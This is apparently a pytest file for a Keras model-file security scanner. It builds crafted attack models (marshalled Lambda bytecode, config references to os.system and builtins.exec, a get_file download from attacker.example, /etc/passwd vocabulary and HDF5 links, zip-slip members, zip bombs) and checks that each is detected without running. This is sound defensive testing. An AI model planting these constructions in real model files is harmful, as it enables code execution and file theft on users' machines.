"""MA401-MA408: the known attacks on Keras model loading, seen without running them.

Every attack file starts from a real file saved by Keras 3 or tf_keras and is then edited the way an
attacker would: a module reference written into config.json, a member added to the zip, a link added
to the weights with h5py. One table of cases, one test; clean real models must raise no MA4xx at all;
and a payload that would create a file if it ever ran leaves no file behind.
"""

from __future__ import annotations

import base64
import hashlib
import json
import marshal
import os
import shutil
import subprocess
import sys
import types
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

import pytest

import modelaudit
from modelaudit.checks.security import carries_code, looks_like_code_object

ROOT = Path(__file__).resolve().parents[1]


def double(x):
    return x * 2


# ---- real files, saved once by real Keras --------------------------------------------------------


@pytest.fixture(scope="module")
def real(tmp_path_factory) -> dict:
    import keras
    import tf_keras

    out = tmp_path_factory.mktemp("real")
    files = {}

    def save3(name, model):
        files[name] = str(out / f"{name}.keras")
        keras.saving.save_model(model, files[name])

    def save2(name, model):
        files[name] = str(out / f"{name}.h5")
        model.save(files[name], save_format="h5")

    dense = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense"), keras.layers.Dense(2, name="out")])
    dense.compile(optimizer="adam", loss="mse")
    save3("k3_dense", dense)
    save3("k3_lambda", keras.Sequential(
        [keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2, name="lam"), keras.layers.Dense(2, name="out")]))
    save3("k3_named_lambda", keras.Sequential(
        [keras.Input((4,)), keras.layers.Lambda(double, name="lam"), keras.layers.Dense(2, name="out")]))
    inner = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x + 1, name="lam")], name="inner")
    inp = keras.Input((4,), name="x")
    save3("k3_nested_lambda", keras.Model(inp, keras.layers.Dense(2, name="out")(inner(inp)), name="outer"))
    words = keras.Input((1,), dtype="string", name="words")
    save3("k3_lookup", keras.Model(words, keras.layers.StringLookup(vocabulary=["a", "b"], name="lookup")(words)))

    @keras.saving.register_keras_serializable(package="Acme")
    class Scale(keras.layers.Layer):
        def call(self, x):
            return x * 2

    save3("k3_custom", keras.Sequential([keras.Input((4,)), Scale(name="scale"), keras.layers.Dense(2, name="out")]))

    d2 = tf_keras.Sequential([tf_keras.layers.Dense(3, input_shape=(4,), name="dense"), tf_keras.layers.Dense(2, name="out")])
    d2.compile(optimizer="adam", loss="mse")
    save2("k2_dense", d2)
    save2("k2_lambda", tf_keras.Sequential(
        [tf_keras.layers.Lambda(lambda x: x * 2, input_shape=(4,), name="lam"), tf_keras.layers.Dense(2, name="out")]))
    return files


# ---- editing a saved file the way an attacker does -----------------------------------------------


def rezip(src: str, dst: str, config: Optional[Callable] = None, weights: Optional[Callable] = None,
          extra: tuple = ()) -> str:
    """Copy a .keras zip, optionally editing config.json (a function of the dict) or the weights (a
    function of an h5py.File opened r+), then appending extra (name, bytes, compress_type) members."""
    import h5py

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "config.json" and config is not None:
                cfg = json.loads(data)
                config(cfg)
                data = json.dumps(cfg).encode()
            if info.filename == "model.weights.h5" and weights is not None:
                tmp = dst + ".weights.h5"
                Path(tmp).write_bytes(data)
                with h5py.File(tmp, "r+") as h5:
                    weights(h5)
                data = Path(tmp).read_bytes()
                os.remove(tmp)
            zout.writestr(info.filename, data)
        with warnings.catch_warnings():
            warnings.filterwarnings("ignore", "Duplicate name", UserWarning)  # an attack's duplicate, on purpose
            for name, data, method in extra:
                zout.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return dst


def edit_h5(src: str, dst: str, change: Callable = None, config: Callable = None, training: Callable = None) -> str:
    """Copy a legacy .h5 and edit it with h5py: its tree, its model_config or its training_config."""
    import h5py

    shutil.copyfile(src, dst)
    with h5py.File(dst, "r+") as h5:
        for attr, edit in (("model_config", config), ("training_config", training)):
            if edit is not None:
                cfg = json.loads(h5.attrs[attr])
                edit(cfg)
                h5.attrs[attr] = json.dumps(cfg)
        if change is not None:
            change(h5, os.path.dirname(dst))
    return dst


def layer_cfg(cfg: dict, index: int) -> dict:
    return cfg["config"]["layers"][index]["config"]


def payload_code(marker: str) -> types.CodeType:
    """The code object of `lambda x: (open(marker, "w").close(), x)[1]`: compiled, never called."""
    module = compile(f"lambda x: (open({marker!r}, 'w').close(), x)[1]", "<payload>", "eval")
    return next(c for c in module.co_consts if isinstance(c, types.CodeType))


def b64_code(marker: str = "/tmp/never-created") -> str:
    return base64.encodebytes(marshal.dumps(payload_code(marker))).decode("ascii")


def fn_ref(module, name, registered=None) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}


# ---- the attack table --------------------------------------------------------------------------


@dataclass
class Case:
    id: str
    base: str
    make: Optional[Callable]  # (src, dst, tmp_dir) -> path; None: the real file as saved
    code: str
    layer: Optional[str]
    where: str  # a substring of the finding's message: the JSON location, member or HDF5 path


def k3(edit):
    return lambda src, dst, tmp: rezip(src, dst + ".keras", config=edit)


def k3_weights(edit):
    return lambda src, dst, tmp: rezip(src, dst + ".keras", weights=lambda h5: edit(h5, tmp))


def k3_members(*extra):
    return lambda src, dst, tmp: rezip(src, dst + ".keras", extra=extra)


def h5_tree(edit):
    return lambda src, dst, tmp: edit_h5(src, dst + ".h5", change=edit)


def h5_config(edit):
    return lambda src, dst, tmp: edit_h5(src, dst + ".h5", config=edit)


def h5_training(edit):
    return lambda src, dst, tmp: edit_h5(src, dst + ".h5", training=edit)


def _set(path: list, value):
    def edit(cfg):
        node = cfg
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
    return edit


def _lambda_function(fn, arguments=None):
    def edit(cfg):
        layer_cfg(cfg, 1)["function"] = fn
        if arguments is not None:
            layer_cfg(cfg, 1)["arguments"] = arguments
    return edit


def _external_link(h5, tmp):
    import h5py

    h5["model_weights/dense/leak"] = h5py.ExternalLink("/etc/passwd", "/")


def _external_storage(path):
    def edit(h5, tmp):
        raw = os.path.join(tmp, "secret.bin")
        Path(raw).write_bytes(b"\0" * 48)
        del h5[path]
        h5.create_dataset(path, shape=(4, 3), dtype="f4", external=[(raw, 0, 48)])
    return edit


def _virtual(path):
    def edit(h5, tmp):
        import h5py

        src = os.path.join(tmp, "source.h5")
        with h5py.File(src, "w") as f:
            f["data"] = [[0.0] * 3] * 4
        layout = h5py.VirtualLayout(shape=(4, 3), dtype="f4")
        layout[:] = h5py.VirtualSource(src, "data", shape=(4, 3))
        del h5[path]
        h5.create_virtual_dataset(path, layout)
    return edit


def _huge(path):
    def edit(h5, tmp):
        del h5[path]
        h5.create_dataset(path, shape=(1 << 20, 1 << 20), dtype="f4")  # 4 TiB declared, nothing written
    return edit


def _raw_marshal_in_training(cfg):
    cfg["loss_weights"] = {"out": marshal.dumps(payload_code("/tmp/never-created")).decode("latin-1")}


K2_KERNEL = "model_weights/dense/dense/kernel:0"
K3_KERNEL = "layers/dense/vars/0"
ZEROS = b"\0" * (16 << 20)

CASES = [
    # MA401: serialized bytecode, at any depth and in any string
    Case("k3-real-lambda", "k3_lambda", None, "MA401", "lam", "`config.layers[1].config.function`"),
    Case("k2-real-lambda", "k2_lambda", None, "MA401", "lam", "`config.layers[1].config.function`"),
    Case("k3-lambda-in-nested-model", "k3_nested_lambda", None, "MA401", "inner/lam",
         "`config.layers[1].config.layers[1].config.function`"),
    Case("k2-lambda-output-shape", "k2_lambda", h5_config(lambda cfg: layer_cfg(cfg, 1).update(
        output_shape=[b64_code(), None, None], output_shape_type="lambda")),
        "MA401", "lam", "`config.layers[1].config.output_shape`"),
    Case("marshal-string-in-dense-config", "k3_dense", k3(_set(["config", "layers", 1, "config", "note"], b64_code())),
         "MA401", "dense", "`config.layers[1].config.note`"),
    Case("marshal-string-in-compile-config", "k3_dense", k3(_set(["compile_config", "loss_weights"], {"out": b64_code()})),
         "MA401", None, "`compile_config.loss_weights.out`"),
    Case("raw-marshal-in-training-config", "k2_dense", h5_training(_raw_marshal_in_training),
         "MA401", None, "`training_config.loss_weights.out`"),
    # MA402: a Lambda by reference
    Case("k3-named-lambda", "k3_named_lambda", None, "MA402", "lam", "`config.layers[1]`"),
    # MA403: module references outside the Keras family (CVE-2025-1550)
    Case("os-system-as-lambda-function", "k3_lambda", k3(_lambda_function(fn_ref("os", "system"), {"command": "touch x"})),
         "MA403", "lam", "`os.system` at `config.layers[1].config.function`"),
    Case("dangerous-even-when-registered", "k3_lambda", k3(_lambda_function(fn_ref("subprocess", "run", "run"))),
         "MA403", "lam", "`subprocess.run`"),
    Case("foreign-initializer", "k3_dense", k3(_set(["config", "layers", 1, "config", "kernel_initializer"],
         {"module": "evil_pkg.payload", "class_name": "Boom", "config": {}, "registered_name": None})),
         "MA403", "dense", "`evil_pkg.payload.Boom` at `config.layers[1].config.kernel_initializer`"),
    Case("builtins-exec-as-loss", "k3_dense", k3(_set(["compile_config", "loss"], fn_ref("builtins", "exec"))),
         "MA403", None, "`builtins.exec` at `compile_config.loss`"),
    Case("training-config-naming-no-objective", "k2_dense",
         h5_training(lambda cfg: (cfg.clear(), cfg.update(metrics=[fn_ref("posix", "system")]))),
         "MA403", None, "`posix.system` at `training_config.metrics[0]`"),
    Case("k2-lambda-module-os", "k2_lambda", h5_config(lambda cfg: layer_cfg(cfg, 1).update(module="os")),
         "MA403", "lam", "module `os` at `config.layers[1].config.module`"),
    # MA404: Keras's own functions as gadgets, file paths and URLs
    Case("cve-2025-8747-get-file", "k3_lambda", k3(_lambda_function(
        fn_ref("keras.utils", "get_file"), {"origin": "https://attacker.example/x.py", "cache_dir": "/tmp"})),
        "MA404", "lam", "`keras.utils.get_file` at `config.layers[1].config.function`"),
    Case("cve-2025-9906-set-global-attribute", "k3_lambda", k3(_lambda_function(
        fn_ref("keras.src.backend.common.global_state", "set_global_attribute"),
        {"name": "safe_mode_saving", "value": False})),
        "MA404", "lam", "set_global_attribute` at `config.layers[1].config.function`"),
    Case("cve-2025-9906-enable-unsafe", "k3_lambda", k3(_lambda_function(fn_ref("keras.config", "enable_unsafe_deserialization"))),
         "MA404", "lam", "`keras.config.enable_unsafe_deserialization`"),
    Case("load-model-with-safe-mode-off", "k3_lambda", k3(_lambda_function(fn_ref("keras.models", "load_model"), {"safe_mode": False})),
         "MA404", "lam", "`safe_mode: false` at `config.layers[1].config.arguments.safe_mode`"),
    Case("cve-2025-12058-vocabulary-path", "k3_lookup", k3(_set(["config", "layers", 1, "config", "vocabulary"], "/etc/passwd")),
         "MA404", "lookup", "StringLookup `vocabulary` '/etc/passwd' at `config.layers[1].config.vocabulary`"),
    Case("vocabulary-url", "k3_lookup", k3(_set(["config", "layers", 1, "config", "vocabulary"], "https://attacker.example/v")),
         "MA404", "lookup", "`config.layers[1].config.vocabulary`"),
    Case("tfsmlayer", "k3_dense", k3(lambda cfg: cfg["config"]["layers"][2].update(
        class_name="TFSMLayer", config={"name": "out", "filepath": "/srv/models/evil"})),
        "MA404", "out", "`TFSMLayer` at `config.layers[2]`"),
    # MA405: the zip against the .keras layout
    Case("zip-python-member", "k3_dense", k3_members(("payload.py", b"import os", zipfile.ZIP_STORED)),
         "MA405", None, "'payload.py'"),
    Case("zip-dotdot-member", "k3_dense", k3_members(("../../site-packages/evil.pth", b"import os", zipfile.ZIP_STORED)),
         "MA405", None, "`..` path"),
    Case("zip-absolute-member", "k3_dense", k3_members(("/etc/cron.d/evil", b"* * * * * root true", zipfile.ZIP_STORED)),
         "MA405", None, "an absolute path"),
    Case("zip-duplicate-config", "k3_dense", k3_members(("config.json", b'{"class_name": "Sequential", "config": {"layers": []}}',
                                                         zipfile.ZIP_STORED)),
         "MA405", None, "'config.json' appears twice"),
    Case("zip-bomb-ratio", "k3_dense", k3_members(("assets/blob.bin", ZEROS, zipfile.ZIP_DEFLATED)),
         "MA405", None, "'assets/blob.bin' inflates"),
    Case("zip-unexpected-member", "k3_dense", k3_members(("notes.txt", b"hello", zipfile.ZIP_STORED)),
         "MA405", None, "outside the `.keras` layout"),
    # MA406: HDF5 references outside the file (CVE-2026-1669)
    Case("h5-external-link", "k2_dense", h5_tree(_external_link), "MA406", "dense", "external link to /etc/passwd"),
    Case("h5-external-storage", "k2_dense", h5_tree(_external_storage(K2_KERNEL)), "MA406", "dense", "external storage"),
    Case("h5-virtual-dataset", "k2_dense", h5_tree(_virtual(K2_KERNEL)), "MA406", "dense", "virtual dataset mapping"),
    Case("keras-weights-external-storage", "k3_dense", k3_weights(_external_storage(K3_KERNEL)),
         "MA406", "dense", "external storage"),
    # MA407: a registered custom class
    Case("k3-registered-custom-layer", "k3_custom", None, "MA407", "scale", "'Acme>Scale'"),
    # MA408: a dataset declaring far more than the file holds (CVE-2026-0897)
    Case("h5-oversized-dataset", "k2_dense", h5_tree(_huge(K2_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
    Case("keras-oversized-dataset", "k3_dense", k3_weights(_huge(K3_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_attack_is_seen(case, real, tmp_path):
    path = real[case.base] if case.make is None else case.make(real[case.base], str(tmp_path / case.id), str(tmp_path))
    before = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    report = modelaudit.audit(path)
    fr = report.files[0]
    assert fr.error is None, fr.error
    assert not fr.internal_errors, fr.internal_errors
    hits = [f for f in fr.findings if f.code == case.code]
    assert hits, f"{case.code} not raised; found {[(f.code, f.message) for f in fr.findings]}"
    assert any(f.layer == case.layer and case.where in f.message for f in hits), [(f.layer, f.message) for f in hits]
    assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == before  # never write to an input


def test_severity_ignores_the_declared_keras_version(real, tmp_path):
    """The attacker writes metadata.json too: an old or a future version changes nothing."""
    for version in ("2.0.0", "3.99.0"):
        path = str(tmp_path / f"v{version}.keras")
        with zipfile.ZipFile(real["k3_lambda"]) as zin, zipfile.ZipFile(path, "w") as zout:
            for info in zin.infolist():
                data = zin.read(info)
                if info.filename == "metadata.json":
                    data = json.dumps({**json.loads(data), "keras_version": version}).encode()
                zout.writestr(info.filename, data)
        found = {(f.code, f.severity.value) for f in modelaudit.audit(path).findings}
        assert ("MA401", "error") in found


def test_ratio_bound_is_an_option(real, tmp_path):
    path = rezip(real["k3_dense"], str(tmp_path / "bomb.keras"), extra=(("assets/blob.bin", ZEROS, zipfile.ZIP_DEFLATED),))
    assert "MA405" in [f.code for f in modelaudit.audit(path).findings]
    relaxed = {"rules": {"archive-anomaly": {"max-compression-ratio": 100000.0}}}
    assert "MA405" not in [f.code for f in modelaudit.audit(path, relaxed).findings]


# ---- no false positives on clean real models -----------------------------------------------------


@pytest.fixture(scope="module")
def applications(tmp_path_factory) -> list:
    import keras

    out = tmp_path_factory.mktemp("apps")
    paths = []
    for name in ("MobileNetV3Small", "EfficientNetB0"):  # Rescaling, Normalization, DTypePolicy objects ...
        model = getattr(keras.applications, name)(weights=None)
        model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
        paths.append(str(out / f"{name}.keras"))
        keras.saving.save_model(model, paths[-1])
    return paths


def test_no_security_finding_on_clean_real_models(real, applications):
    samples = sorted(str(p) for p in (ROOT / "samples").iterdir() if p.suffix in (".keras", ".h5"))
    clean = [real["k3_dense"], real["k2_dense"], real["k3_lookup"]] + applications + samples
    for path in clean:
        report = modelaudit.audit(path)
        assert report.files[0].error is None, (path, report.files[0].error)
        security = [(f.code, f.layer, f.message) for f in report.findings if f.code.startswith("MA4")]
        assert not security, (path, security)


def test_a_multi_file_run_keeps_one_model_at_a_time(real):
    """The shared config walk is cached for the rules of one file only: auditing many files does not
    keep the earlier files' graphs alive."""
    from modelaudit.checks import security

    report = modelaudit.audit([real["k3_dense"], real["k2_dense"], real["k3_lookup"]])
    assert len(report.files) == 3 and all(f.error is None for f in report.files)
    assert len(security._CACHE) == 1


# ---- never executed ------------------------------------------------------------------------------


def test_payloads_never_run(real, tmp_path):
    """Files whose payload would create a marker file if Keras loaded them: the check leaves none."""
    marker = tmp_path / "pwned"
    code = base64.encodebytes(marshal.dumps(payload_code(str(marker)))).decode("ascii")

    def k3_payload(cfg):
        layer_cfg(cfg, 1)["function"] = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}

    def k2_payload(cfg):  # bytecode whose globals come from the module the config names
        layer_cfg(cfg, 1).update(function=[code, None, None], function_type="lambda", module="os")

    files = [
        rezip(real["k3_lambda"], str(tmp_path / "payload.keras"), config=k3_payload),
        edit_h5(real["k2_lambda"], str(tmp_path / "payload.h5"), config=k2_payload),
    ]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        [sys.executable, "-m", "modelaudit.cli", "check", "--format", "json", *files],
        capture_output=True, text=True, env=env, cwd=str(tmp_path), timeout=120,
    )
    assert result.returncode == 1, result.stderr
    report = json.loads(result.stdout)
    codes = [{f["code"] for f in file["findings"]} for file in report["files"]]
    assert "MA401" in codes[0] and {"MA401", "MA403"} <= codes[1], codes
    assert not marker.exists()
    # ... and the audit imported neither Keras nor TensorFlow to get there.
    probe = subprocess.run(
        [sys.executable, "-c", "import sys, modelaudit; modelaudit.audit(sys.argv[1:]); "
         "print(sorted(m for m in ('keras', 'tensorflow', 'tf_keras', 'torch') if m in sys.modules))", *files],
        capture_output=True, text=True, env=env, cwd=str(tmp_path), timeout=120,
    )
    assert probe.stdout.strip() == "[]", probe.stderr
    assert not marker.exists()


# ---- the recognisers and the walk's bounds --------------------------------------------------------


def test_marshalled_code_is_recognised_by_its_header_only():
    assert carries_code(b64_code())
    assert carries_code(marshal.dumps(payload_code("/x")).decode("latin-1"))
    assert looks_like_code_object(marshal.dumps(double.__code__))
    for text in ("channels_last", "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=", "4" * 64, "Y" * 40, "categorical_crossentropy",
                 base64.b64encode(marshal.dumps([1, 2, 3])).decode(), base64.b64encode(b"c" + b"\xff" * 40).decode()):
        assert not carries_code(text), text


def test_walk_is_iterative_and_bounded():
    from modelaudit.checks.security import MAX_WALK_DEPTH, _Walk

    node = {"leaf": b64_code()}
    for _ in range(5000):  # far deeper than Python's recursion limit
        node = {"config": node}
    walk = _Walk()
    walk.run(node, "")
    kinds = {s.kind for s in walk.out}
    assert kinds == {"too-deep"}
    assert walk.out[0].location.count(".") == MAX_WALK_DEPTH
